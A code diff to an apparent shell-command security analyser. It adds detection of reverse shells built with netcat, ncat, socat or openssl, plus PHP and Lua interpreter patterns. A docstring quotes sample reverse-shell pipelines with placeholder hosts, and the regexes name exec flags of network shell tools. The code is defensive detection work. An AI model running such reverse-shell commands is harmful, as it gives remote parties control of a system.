@@ -104,12 +104,17 @@ _LANG_OF = [
     (re.compile(r"node(?:js)?|bun|deno"), "js"),
     (re.compile(r"pwsh|powershell(?:\.exe)?"), "powershell"),
     (re.compile(r"osascript"), "applescript"),
+    (re.compile(r"php[\d.]*"), "php"),
+    (re.compile(r"lua[\d.]*|luajit"), "lua"),
 ]
 _ESCAPES = re.compile(r"\\(?:x[0-9A-Fa-f]{2}|[0-7]{3}|0[0-7]{1,3}|u[0-9A-Fa-f]{4})")
 _VAR_REF = re.compile(r"\$\{([A-Za-z_][A-Za-z0-9_]*)\}|\$([A-Za-z_][A-Za-z0-9_]*)")
 _HEREDOC = re.compile(r"<<-?\s*(['\"]?)([A-Za-z_][A-Za-z0-9_]*)\1")
 _REMOTE_SPEC = re.compile(r"^(?:[\w.-]+@)?[\w.-]+:(?!//)")
 _DEV_NET = re.compile(r"/dev/(?:tcp|udp)/")
+# nc -e PROG / -c CMD (also clustered, -nve), ncat --exec / --sh-exec / --lua-exec.
+_NC_EXEC = re.compile(r"-[a-zA-Z]*[ec]|--(?:sh-|lua-)?exec(?:=.*)?")
+_SOCAT_PROGRAM = re.compile(r"(?:^|[!,])(?:exec|system)[:=]", re.I)
 _EXEC_MODE = re.compile(
     r"^(?:[ugoa]*[+=][rwxXst]*x[rwxXst]*(?:,.*)?|\+x|[0-7]*[1357][0-7]?[0-7]?)$"
 )
@@ -321,6 +326,38 @@ class _Chunk:
                 upstream |= kinds
                 if text is not None:
                     printed.append(text)
+            if len(pipeline.commands) > 1:
+                self.piped_shell(pipeline)
+
+    def piped_shell(self, pipeline: Pipeline) -> None:
+        """A shell with no command piped to or from a network tool: a reverse shell
+        (`cat /tmp/f | sh -i 2>&1 | nc HOST PORT > /tmp/f`, `nc H P | sh | nc H Q`)."""
+        names = {
+            basename(word.value)
+            for element in pipeline.commands
+            if not isinstance(element, Group)
+            for word in element.words
+        }
+        if not names & (NETCATS | {"openssl"}) or not names & SHELLS:
+            return
+        net = shell = ""
+        for element in pipeline.commands:
+            if isinstance(element, Group):
+                continue
+            resolved = resolve(expand_words(element.words))
+            if resolved is None or not resolved.argv:
+                continue
+            argv = resolved.argv
+            name = basename(argv[0].value)
+            args = [w.value for w in argv[1:]]
+            if name in NETCATS or (name == "openssl" and "s_client" in args):
+                net = net or name
+            elif name in SHELLS:
+                inv = invocation(argv)
+                if inv is not None and inv.code is None and inv.script is None:
+                    shell = shell or name
+        if net and shell:
+            self.add("dangerous", "reverse-shell", f"pipes a shell ({shell}) to and from {net}")
 
     def group_reads_stdin(self, group: Group) -> bool:
         key = id(group)
@@ -725,9 +762,11 @@ class _Chunk:
             )
         elif name in NETCATS:
             how, send = name, True
-            if any(a in ("-e", "-c") for a in args):
+            if any(_NC_EXEC.fullmatch(a) for a in args) or (
+                name == "socat" and _socat_runs_program(args)
+            ):
                 self.add(
-                    "dangerous", "reverse-shell", f"hands a shell to a remote host with {name}"
+                    "dangerous", "reverse-shell", f"hands a program to a remote host with {name}"
                 )
         elif name in COPY_OUT and any(_REMOTE_SPEC.match(a) for a in args):
             how, send = f"{name} to a remote host", True
@@ -791,6 +830,11 @@ class _Chunk:
         for path in out:
             if path and path != "-":
                 self.state.fetched.add(basename(path))
+
+
+def _socat_runs_program(args: list[str]) -> bool:
+    """socat with an EXEC:/SYSTEM: address (a program whose stdio is the other side)."""
+    return any(_SOCAT_PROGRAM.search(a) for a in args)
 
 
 def _is_persistence(target: str) -> bool:
